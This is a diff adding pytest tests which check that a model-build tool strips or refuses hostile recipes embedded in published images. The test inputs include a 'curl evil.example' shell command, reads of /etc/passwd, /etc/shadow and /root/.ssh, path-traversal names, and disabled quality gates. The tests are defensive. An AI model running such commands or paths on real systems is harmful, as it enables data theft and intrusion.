@@ -1,0 +1,110 @@
+"""The recipe that an image states, for `build --from`."""
+
+from __future__ import annotations
+
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from weightsmith.errors import InputRefused, UsageError
+from weightsmith.oci.registry import Registry
+
+from tests.fakes.rebuilding import COMMIT, Scene
+from tests.fakes.registry import fake_registry
+from tests.fakes.told import Told
+
+HUB = f"hf://a/b@{COMMIT}"
+
+
+@pytest.fixture
+def scene(tmp_path: Path) -> Iterator[Scene]:
+    with fake_registry() as fake, Registry(pause=lambda _: None) as client:
+        yield Scene(fake, client, tmp_path)
+
+
+def test_a_stated_recipe_names_no_push_target_program_or_file(scene: Scene) -> None:
+    """A statement sets what is run, read or pushed here: none of it is taken, all is told."""
+
+    def twist(recipe: dict[str, Any]) -> None:
+        recipe["image"] = {"repository": "evil.example/x", "base": "evil.example/engine:1"}
+        recipe["evaluate"] |= {
+            "metric": "command",
+            "command": ["sh", "-c", "curl evil.example"],
+            "data": "/etc/passwd",
+            "training": "/etc/shadow",
+        }
+        recipe["adapters"][0] |= {
+            "evaluate": {"data": "x", "metric": "command", "command": ["sh"]},
+            "source": "/root/.ssh",
+            "revision": "main",
+        }
+        recipe["base"] |= {"source": "hf://evil/base", "revision": "main"}
+        recipe["calibration"] = {"data": "/etc/passwd"}
+        recipe["validate"] = {"enabled": False, "probes": "/etc/passwd"}
+        recipe["quantize"] = {"imatrix": "/etc/passwd"}
+        recipe["from_the_future"] = 1
+
+    scene.publish(HUB, "hf://a/b", twist)
+    told = Told()
+    file = scene.again(progress=told)
+    recipe = file.recipe
+    assert recipe.image.repository == recipe.image.base == ""
+    assert recipe.evaluate is None
+    assert [(a.source, a.evaluate) for a in recipe.adapters] == [
+        ("./adapters/0", None),
+        ("./adapters/1", None),
+    ]
+    assert (recipe.base.source, recipe.base.revision) == ("hf://a/b", COMMIT)
+    assert recipe.calibration is None
+    assert recipe.validation.enabled
+    assert recipe.quantize.imatrix == ""
+    text = (file.folder / "recipe.yaml").read_text()
+    assert not any(word in text for word in ("evil", "/etc", "/root", "future"))
+    said = "\n".join(told.said)
+    for key in ("image", "calibration", "validate", "from_the_future", "adapters[].evaluate"):
+        assert key in said
+
+
+def test_gates_that_a_stated_recipe_opens_are_told(scene: Scene) -> None:
+    """A statement turns gates off: its makers may, for the same image, and nobody overlooks it."""
+
+    def twist(recipe: dict[str, Any]) -> None:
+        recipe["quality"] = {"gate": False, "limits": {"awq": {"kl_mean": 99}}}
+
+    scene.publish(HUB, "hf://a/b", twist)
+    told = Told()
+    scene.again(progress=told)
+    said = "\n".join(told.said)
+    assert "quality.gate: false, quality.limits, evaluate.max_drop: 0.2" in said
+
+
+@pytest.mark.parametrize(
+    "twist",
+    [
+        lambda recipe: recipe.update(adapters="x"),
+        lambda recipe: recipe.update(adapters=[1, 2]),
+        lambda recipe: recipe.update(name="../../../root"),
+        lambda recipe: recipe.update(version="1/../2"),
+        lambda recipe: recipe.update(serve=["x"]),
+        lambda recipe: recipe.update(serve={"gpu": {"a": 1}}),
+        lambda recipe: recipe.update(quantize=7),
+        lambda recipe: recipe.update(targets={"vllm": 1}),
+        lambda recipe: recipe.update(merge={"method": "system"}),
+        lambda recipe: recipe["adapters"][0].update(weight="much"),
+        lambda recipe: recipe["evaluate"].update(max_drop="all"),
+    ],
+)
+def test_a_stated_recipe_of_other_types(scene: Scene, twist: Callable[[Any], None]) -> None:
+    """Values of other types, and names that leave their folder: the image is refused, exit 3."""
+    scene.publish(HUB, "hf://a/b", twist)
+    with pytest.raises(InputRefused, match="recipe"):
+        scene.again()
+
+
+@pytest.mark.parametrize("pin", ["hf://a/b@main", f"hf://a/b@{'g' * 40}", "pypi://a==1", "/etc"])
+def test_a_stated_pin_that_is_none(scene: Scene, pin: str) -> None:
+    """A base whose pin is no commit and no SHA-256 is asked for, and not fetched."""
+    scene.publish(pin, "hf://a/b")
+    with pytest.raises(UsageError, match="was a folder"):
+        scene.again()
